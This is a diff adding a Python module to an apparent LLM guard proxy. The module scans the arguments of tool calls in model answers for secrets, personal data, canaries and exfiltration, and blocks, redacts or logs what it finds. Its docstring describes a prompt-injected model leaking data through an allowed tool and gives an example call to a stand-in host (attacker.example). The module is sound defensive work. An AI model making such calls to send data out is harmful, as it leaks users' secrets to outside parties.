@@ -1,0 +1,201 @@
+"""Tool-call arguments in answers, scanned like the answer's text.
+
+The tool-call policy (:mod:`.tools`) judges which tool an answer calls; this module judges
+what it passes. A model steered by an injection can call an allowed tool with a secret, a
+customer's personal data, a canary or a URL on a foreign host in its arguments
+(``fetch_url(url="https://attacker.example/?q=…")``), and the application, not a reader, acts
+on them. So the output scanners that make sense there (those whose class sets
+``scans_tool_arguments``: ``secrets``, ``pii``, ``leak``, ``exfiltration``) run on each call's
+``function.arguments`` (and a legacy ``function_call.arguments``), with the same actions:
+
+* **block** — the answer is refused like any other block (HTTP 400 or a stream error event);
+* **redact** — the arguments go on with the values masked; arguments that are JSON stay
+  JSON: each string (keys too) and number is scanned on its own and masked in place, then the
+  document is serialised again (a masked number becomes a string). If the masked arguments
+  still fail a scan, the answer is blocked;
+* **log** — the arguments go on unchanged, the verdict is recorded.
+
+JSON arguments are scanned as the application will read them: the decoded strings and
+numbers, one per line (so escapes such as ``\\u0040`` hide nothing). Arguments that are not
+JSON are scanned as they are. Verdicts carry ``location`` (e.g.
+``choices[0].message.tool_calls[1].function.arguments``) and ``tool``. An answer without tool
+calls costs nothing here.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from typing import Any
+
+from drillhall.llm.guard.proxy.engine import Applied, ScanEngine
+from drillhall.llm.guard.scanners.base import Action, ScanContext
+
+__all__ = ["TOOL_CALL", "ArgumentsOutcome", "ToolCallSlot", "guard_arguments",
+           "tool_call_slots", "tool_name"]
+
+TOOL_CALL = "tool call in the answer"
+"""What a block refused when a tool call's arguments failed a scan (in its message)."""
+
+_NAME = re.compile(r"[A-Za-z0-9_.:-]{1,64}")
+_NOT_JSON = object()
+
+
+def tool_name(value: Any) -> str:
+    """A tool's name as the audit may show it (``""`` when missing or not a plain name: a
+    name is model output too)."""
+    return value if isinstance(value, str) and _NAME.fullmatch(value) else ""
+
+
+@dataclass(frozen=True, slots=True)
+class ArgumentsOutcome:
+    """What the scanners made of one call's arguments: the arguments to pass on, the
+    verdicts (with location and tool), the blocking scanner if any, the guard's time."""
+
+    text: str
+    applied: tuple[Applied, ...] = ()
+    blocked_by: str | None = None
+    latency_ms: float = 0.0
+
+    @property
+    def changed(self) -> bool:
+        return any(a.verdict.flagged and a.action is Action.REDACT for a in self.applied)
+
+
+class _Blocked(Exception):
+    def __init__(self, scanner: str) -> None:
+        super().__init__(scanner)
+        self.scanner = scanner
+
+
+def _decode(text: str) -> Any:
+    try:
+        return json.loads(text)
+    except ValueError:
+        return _NOT_JSON
+
+
+def _leaves(doc: Any) -> Iterator[str]:
+    """The strings (keys too) and numbers of a JSON document, as text."""
+    if isinstance(doc, str):
+        yield doc
+    elif isinstance(doc, bool) or doc is None:
+        return
+    elif isinstance(doc, int | float):
+        yield str(doc)
+    elif isinstance(doc, list):
+        for item in doc:
+            yield from _leaves(item)
+    elif isinstance(doc, dict):
+        for key, value in doc.items():
+            yield key
+            yield from _leaves(value)
+
+
+def _mapped(doc: Any, fix: Callable[[str], str]) -> Any:
+    """``doc`` with every string and number passed through ``fix`` (a number ``fix``
+    changes becomes the masked string)."""
+    if isinstance(doc, str):
+        return fix(doc)
+    if isinstance(doc, bool) or doc is None:
+        return doc
+    if isinstance(doc, int | float):
+        text = str(doc)
+        fixed = fix(text)
+        return doc if fixed == text else fixed
+    if isinstance(doc, list):
+        return [_mapped(item, fix) for item in doc]
+    if isinstance(doc, dict):
+        return {fix(key): _mapped(value, fix) for key, value in doc.items()}
+    return doc
+
+
+def guard_arguments(engine: ScanEngine, arguments: str, context: ScanContext, *, tool: str,
+                    location: str) -> ArgumentsOutcome:
+    """Scan one tool call's ``arguments`` (see the module docstring);
+    :class:`~drillhall.llm.guard.proxy.engine.ScannerFailure` when a scanner raised and the
+    guard fails closed."""
+    if not engine.argument_scanners or not arguments.strip():
+        return ArgumentsOutcome(arguments)
+    doc = _decode(arguments)
+    text = arguments if doc is _NOT_JSON else "\n".join(_leaves(doc))
+    if not text.strip():
+        return ArgumentsOutcome(arguments)
+
+    def scan(value: str) -> tuple[str, str | None, float, tuple[Applied, ...]]:
+        outcome = engine.scan_tool_arguments(value, context, tool=tool, location=location)
+        return outcome.text, outcome.blocked_by, outcome.latency_ms, outcome.applied
+
+    masked, blocked_by, ms, applied = scan(text)
+    if blocked_by is not None:
+        return ArgumentsOutcome(arguments, applied, blocked_by, ms)
+    if masked == text:
+        return ArgumentsOutcome(arguments, applied, None, ms)
+    if doc is _NOT_JSON:
+        return ArgumentsOutcome(masked, applied, None, ms)
+    spent = [ms]
+
+    def fix(value: str) -> str:
+        if not value.strip():
+            return value
+        out, blocked, took, _ = scan(value)
+        spent.append(took)
+        if blocked is not None:
+            raise _Blocked(blocked)
+        return out
+
+    redacting = next((a.verdict.scanner for a in applied
+                      if a.verdict.flagged and a.action is Action.REDACT), "tool-arguments")
+    try:
+        fixed = _mapped(doc, fix)
+    except _Blocked as exc:
+        return ArgumentsOutcome(arguments, applied, exc.scanner, sum(spent))
+    again = "\n".join(_leaves(fixed))
+    still, blocked, took, _ = scan(again)
+    spent.append(took)
+    if blocked is not None or still != again:  # masking piece by piece did not repair it
+        return ArgumentsOutcome(arguments, applied, blocked or redacting, sum(spent))
+    return ArgumentsOutcome(json.dumps(fixed, ensure_ascii=False), applied, None, sum(spent))
+
+
+@dataclass(frozen=True, slots=True)
+class ToolCallSlot:
+    """One tool call's arguments in a complete answer: ``function["arguments"]``."""
+
+    function: dict[str, Any]
+    tool: str
+    location: str
+
+    @property
+    def text(self) -> str:
+        value = self.function.get("arguments")
+        return value if isinstance(value, str) else ""
+
+    def set(self, text: str) -> None:
+        self.function["arguments"] = text
+
+
+def tool_call_slots(data: Any) -> list[ToolCallSlot]:
+    """The tool calls' arguments of a (non-streamed) chat completion: each
+    ``message.tool_calls[i].function`` and a legacy ``message.function_call``."""
+    slots: list[ToolCallSlot] = []
+    choices = data.get("choices") if isinstance(data, dict) else None
+    for position, choice in enumerate(choices if isinstance(choices, list) else ()):
+        message = choice.get("message") if isinstance(choice, dict) else None
+        if not isinstance(message, dict):
+            continue
+        index = choice.get("index", position)
+        where = f"choices[{index if isinstance(index, int) else position}].message"
+        calls = message.get("tool_calls")
+        for i, call in enumerate(calls if isinstance(calls, list) else ()):
+            function = call.get("function") if isinstance(call, dict) else None
+            if isinstance(function, dict):
+                slots.append(ToolCallSlot(function, tool_name(function.get("name")),
+                                          f"{where}.tool_calls[{i}].function.arguments"))
+        legacy = message.get("function_call")
+        if isinstance(legacy, dict):
+            slots.append(ToolCallSlot(legacy, tool_name(legacy.get("name")),
+                                      f"{where}.function_call.arguments"))
+    return slots
